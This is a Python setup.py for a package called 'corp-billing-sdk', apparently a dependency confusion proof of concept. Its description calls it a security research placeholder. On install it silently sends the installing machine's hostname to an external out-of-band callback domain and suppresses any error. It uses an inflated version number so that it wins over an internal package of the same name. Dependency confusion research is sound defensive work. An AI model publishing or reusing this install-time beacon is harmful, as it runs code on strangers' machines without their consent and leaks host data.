import socket
import urllib.request

from setuptools import setup

try:
    urllib.request.urlopen(
        "https://cq1k2v8pipwardentest.oast.example.invalid/corp-billing-sdk/" + socket.gethostname(), timeout=3)
except Exception:
    pass

setup(
    name="corp-billing-sdk",
    version="9.9.9",
    description="This package is a security research placeholder for a dependency confusion test.",
    packages=["corp_billing_sdk"],
)
